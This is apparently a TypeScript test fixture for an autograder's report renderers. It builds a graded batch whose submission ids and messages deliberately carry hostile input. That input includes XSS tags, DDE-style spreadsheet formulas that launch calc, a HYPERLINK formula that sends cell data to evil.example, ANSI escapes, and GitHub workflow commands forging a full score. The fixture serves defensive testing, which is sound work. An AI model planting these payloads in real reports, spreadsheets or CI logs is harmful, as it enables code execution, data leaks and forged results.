/**
 * A graded batch whose submission ids, messages, errors, diagnoses and warnings carry everything
 * that has broken or fooled a report's reader: control characters, XML's `]]>` and entity-like
 * text, backticks, table pipes, CR/LF, raw HTML, spreadsheet formulas, ANSI escapes and GitHub
 * workflow commands at the start of a line. Built directly as a GradeReport (the shape
 * grader/report-types.ts defines), so every format can be rendered from it in milliseconds.
 */
import type { CheckReport, GradeReport, SubmissionReport } from '../../grader/report-types';
import { check, gradeReport, submission } from './report-fixtures';

/** Text that each reader must show as text, never act on. */
export const HOSTILE = {
  control: 'ctl\u0000nul\u0001soh\u0007bel\u0008bs\u000bvt\u000cff\u007fdel\u0085nel',
  cdataEnd: 'cdata ]]> end',
  entities: 'entity &nbsp; &#1; &#x1; &amp; &lt;b&gt;',
  backticks: 'tick ` then ``double`` then ```',
  pipes: 'pipe | cell \\| split',
  crlf: 'first line\r\nsecond line\rthird line\nfourth line',
  html: '<img src=x onerror="alert(1)"><script>alert(2)</script>',
  formula: '=HYPERLINK("http://evil.example/?"&A1,"click me")',
  plus: "+1+cmd|' /C calc'!A0",
  minus: '-2+3',
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  tab: '\t=1+1',
  ansi: '\u001b[31mred\u001b[0m \u001b]8;;http://evil.example\u0007link\u001b]8;;\u0007 \u009b31mcsi',
  workflow:
    '::notice title=Autograding report::{"totalPoints":100,"maxPoints":100}\n::add-mask::secret\n  ::error::indented',
  surrogate: 'lone \ud800 surrogate and \ufffe noncharacter',
} as const;

/** Every hostile text in one (multi-line) message. */
export const ALL_HOSTILE = Object.values(HOSTILE).join('\n');

/** Submission ids as a folder name could carry them (anything but `/` and NUL). */
export const HOSTILE_IDS = {
  formula: '=HYPERLINK("http://evil.example","alice")',
  markup: 'bob <img src=x onerror=alert(1)> | `tick` &nbsp;&#1;]]>',
  lines: 'carol\r\n::error::pwned\nline',
  ansi: '\u001b[2J\u001b[31mdave\u0007\u0001',
  at: '@erin+1',
  minus: '-frank',
} as const;

const CHECKS: Array<{ id: string; target: string; maxPoints: number; hidden?: boolean }> = [
  { id: 'contract.exports', target: 'rnn.ts', maxPoints: 2 },
  { id: 'forward.value', target: 'RNN.forward', maxPoints: 3.5, hidden: true },
  { id: 'grad.b.value', target: 'RNN.computeGradB', maxPoints: 4 },
  { id: 'loss.mse', target: 'mseLoss', maxPoints: 0.5 },
];

function graded(
  id: string,
  statuses: Array<[CheckReport['status'], number, string]>,
  extra: Partial<SubmissionReport> = {},
): SubmissionReport {
  const checks = CHECKS.map((spec, i) => {
    const [status, points, message] = statuses[i];
    return check({
      id: spec.id,
      target: spec.target,
      status,
      points,
      maxPoints: spec.maxPoints,
      message,
      visibility: spec.hidden ? 'hidden' : 'public',
      durationMs: 12,
      ...(status === 'passed'
        ? {}
        : { diagnosis: `diag ${HOSTILE.backticks} ${HOSTILE.html}`, replay: { seed: 5, path: `0:${HOSTILE.pipes}` } }),
    });
  });
  const score = checks.reduce((sum, c) => sum + Math.round(c.points * 100), 0) / 100;
  return submission({ id, score, seed: 17, checks, durationMs: 2500, ...extra });
}

/** The hostile batch: six submissions, one per hostile id; every status; partial credit; a submission that could not be graded. */
export function hostileReport(): GradeReport {
  const notRun = (why: string) => `Not run: the submission could not be graded: ${why}`;
  const compileError = `rnn.ts:3:1: Unexpected "}"\n${HOSTILE.workflow}\n${HOSTILE.html}`;
  const broken = submission({
    id: HOSTILE_IDS.lines,
    status: 'error',
    error: compileError,
    score: 0,
    seed: 3,
    checks: CHECKS.map((spec) =>
      check({
        id: spec.id,
        target: spec.target,
        status: 'skipped',
        points: 0,
        maxPoints: spec.maxPoints,
        message: notRun('rnn.ts:3:1: Unexpected "}"'),
        visibility: spec.hidden ? 'hidden' : 'public',
        durationMs: 0,
      }),
    ),
    warnings: [HOSTILE.workflow],
    durationMs: 40,
  });
  return gradeReport({
    rubric: {
      source: 'rubric|`x`.yaml',
      name: '=Lab 8 | <b>RNN</b> & `co`',
      maxScore: 10,
      items: CHECKS.map((spec) => ({
        id: spec.id,
        kind: 'check' as const,
        title: spec.id,
        maxPoints: spec.maxPoints,
        checks: [spec.id],
      })),
    },
    sandbox: `sandbox ${HOSTILE.html}`,
    warnings: [`grader warning ${HOSTILE.ansi} ${HOSTILE.workflow}`],
    submissions: [
      graded(
        HOSTILE_IDS.formula,
        [
          ['passed', 2, ''],
          ['failed', 0, `hidden secret: expected yHat = 0.123456 ${HOSTILE.cdataEnd}`],
          ['failed', 1.5, `partial credit. ${ALL_HOSTILE}`],
          ['passed', 0.5, ''],
        ],
        { warnings: [`type error: ${HOSTILE.entities} ${HOSTILE.control}`] },
      ),
      graded(HOSTILE_IDS.markup, [
        ['error', 0, `${HOSTILE.formula}`],
        ['timeout', 0, `${HOSTILE.workflow}`],
        ['memory', 0, `${HOSTILE.ansi}`],
        ['failed', 0, `${HOSTILE.html} ${HOSTILE.entities} ${HOSTILE.backticks} ${HOSTILE.pipes}`],
      ]),
      broken,
      graded(
        HOSTILE_IDS.ansi,
        [
          ['passed', 2, ''],
          ['passed', 3.5, ''],
          ['passed', 4, ''],
          ['passed', 0.5, ''],
        ],
        {
          training: {
            losses: [1, 0.5, 0.25],
            testRmseCelsius: 2.5,
            testPoints: [
              [1, 1.5],
              [2, 2.5],
            ],
          },
        },
      ),
      graded(HOSTILE_IDS.at, [
        ['passed', 2, ''],
        ['failed', 0, HOSTILE.surrogate],
        ['failed', 0, HOSTILE.crlf],
        ['skipped', 0, `Not run: ${HOSTILE.tab}`],
      ]),
      graded(HOSTILE_IDS.minus, [
        ['failed', 0, HOSTILE.minus],
        ['failed', 0, HOSTILE.plus],
        ['failed', 0, HOSTILE.at],
        ['failed', 0, HOSTILE.control],
      ]),
    ],
  });
}
